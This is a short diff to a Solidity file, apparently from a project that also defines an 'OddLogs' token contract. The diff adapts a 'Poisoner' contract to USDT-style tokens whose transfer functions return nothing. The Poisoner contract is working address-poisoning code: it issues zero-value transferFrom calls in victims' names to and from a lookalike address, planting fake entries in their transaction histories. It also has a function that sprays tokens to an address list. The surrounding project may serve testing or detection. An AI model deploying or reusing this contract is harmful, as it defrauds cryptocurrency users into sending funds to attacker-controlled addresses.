@@ -73,16 +73,22 @@ contract OddLogs is Token {
     }
 }
 
-/// Writes many a history at once: transfers of nothing in others' names, and what a list of addresses gets of a token.
+/// What the contracts of tokens are asked; USDT answers nothing.
+interface Quiet {
+    function transfer(address to, uint256 value) external;
+    function transferFrom(address from, address to, uint256 value) external;
+}
+
+/// Writes many histories at once: transfers of nothing in others' names, and a token for each address of a list.
 contract Poisoner {
-    function poison(Token token, address[] calldata victims, address lookalike) external {
+    function poison(Quiet token, address[] calldata victims, address lookalike) external {
         for (uint256 i = 0; i < victims.length; i++) {
             token.transferFrom(victims[i], lookalike, 0);
             token.transferFrom(lookalike, victims[i], 0);
         }
     }
 
-    function spread(Token token, address[] calldata to, uint256 value) external {
+    function spread(Quiet token, address[] calldata to, uint256 value) external {
         for (uint256 i = 0; i < to.length; i++) {
             token.transfer(to[i], value);
         }
